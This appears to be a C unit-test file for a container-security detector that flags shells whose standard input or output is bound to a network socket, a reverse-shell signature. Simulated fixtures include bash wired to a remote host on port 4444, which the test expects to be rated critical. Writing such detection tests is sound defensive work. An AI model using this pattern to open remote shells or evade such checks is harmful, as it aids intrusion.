	n = xcalloc(1, sizeof(*n));
	n->socks = xcalloc(1, sizeof(*n->socks));
	n->socks[0].proto = NET_UNIX;
	n->socks[0].inode = 9010;
	n->socks[0].state = 3;
	n->n = 1;
	s.own_net = n;
	s.net = n;
	s.loaded |= FACET_BIT(FACET_SOCKETS);
	none(&judge_stdio_socket, &s);
	psnap_release(&s);

	shell_on(&s, "nginx", "socket:[9011]", "socket:[9011]", NULL);
	add_sock(&s, NET_TCP, 9011, "10.0.0.2", 80, "198.51.100.7", 5555, 1);
	cr_assert_eq(judge_stdio_socket.more(&s), 0);
	none(&judge_stdio_socket, &s);
	psnap_release(&s);

	shell_on(&s, "python3", "socket:[9012]", "/dev/null", "/dev/null");
	add_sock(&s, NET_TCP, 9012, "0.0.0.0", 8080, "0.0.0.0", 0, 10);
	none(&judge_stdio_socket, &s);
	psnap_release(&s);

	shell_on(&s, "bash", "socket:[9013]", "socket:[9013]", NULL);
	add_sock(&s, NET_TCP, 9099, "10.0.0.2", 1, "10.0.0.3", 2, 1);
	none(&judge_stdio_socket, &s);
	psnap_release(&s);

	/* A socket on fd 3 is not stdio. */
	shell_on(&s, "bash", "/dev/pts/1", "/dev/pts/1", "/dev/pts/1");
	snapkit_fd(&s, 3, "socket:[9014]", 2);
	add_sock(&s, NET_TCP, 9014, "10.0.0.2", 1, "10.0.0.3", 2, 1);
	none(&judge_stdio_socket, &s);
	psnap_release(&s);
}

/* The cost: a shell's fd links first (a readlink each, no stat, no
 * mount table), its socket tables only when fd 0, 1 or 2 is a socket
 * by the link's text; judged on the links alone. */
Test(container, stdio_asks_in_steps)
{
	struct psnap s;
	struct findings l = {0};
	const struct finding *f;
	unsigned links = FACET_BIT(FACET_FDLINKS);
	snapkit_init(&s, 700, "bash");
	cr_assert_eq(judge_stdio_socket.more(&s), links, "links first");
	shell_on(&s, "bash", "/dev/pts/3", "/dev/pts/3", "pipe:[7]");
	s.loaded =
		(s.loaded & ~(FACET_BIT(FACET_FDS) | FACET_BIT(FACET_FDINFO))) |
		links;
	cr_assert_eq(judge_stdio_socket.more(&s), links, "no socket: done");
	none(&judge_stdio_socket, &s);
	psnap_release(&s);
	/* A socket on fd 3 only: no tables either. */
	shell_on(&s, "bash", "/dev/pts/3", "/dev/pts/3", "/dev/pts/3");
	snapkit_fd(&s, 3, "socket:[9030]", 2);
	cr_assert_eq(judge_stdio_socket.more(&s), links);
	psnap_release(&s);
	shell_on(&s, "bash", "socket:[9031]", "socket:[9031]", "pipe:[7]");
	s.loaded =
		(s.loaded & ~(FACET_BIT(FACET_FDS) | FACET_BIT(FACET_FDINFO))) |
		links;
	cr_assert_eq(judge_stdio_socket.more(&s),
		     links | FACET_BIT(FACET_SOCKETS));
	none(&judge_stdio_socket, &s); /* tables not read yet */
	add_sock(&s, NET_TCP, 9031, "10.0.0.2", 51234, "198.51.100.7", 4444, 1);
	f = one(&judge_stdio_socket, &s, &l);
	cr_assert_eq(f->severity, SEV_CRITICAL);
	fact_str(f, "fds", "0,1");
	findings_release(&l);
	psnap_release(&s);
	snapkit_init(&s, 701, "nginx");
	cr_assert_eq(judge_stdio_socket.more(&s), 0, "not a shell");
	psnap_release(&s);
}

/* Facets not read: nothing judged, nothing guessed. */
Test(container, stdio_without_sockets)
{
	struct psnap s;
	shell_on(&s, "bash", "socket:[9020]", "socket:[9020]", NULL);
	none(&judge_stdio_socket, &s);
	psnap_release(&s);
}
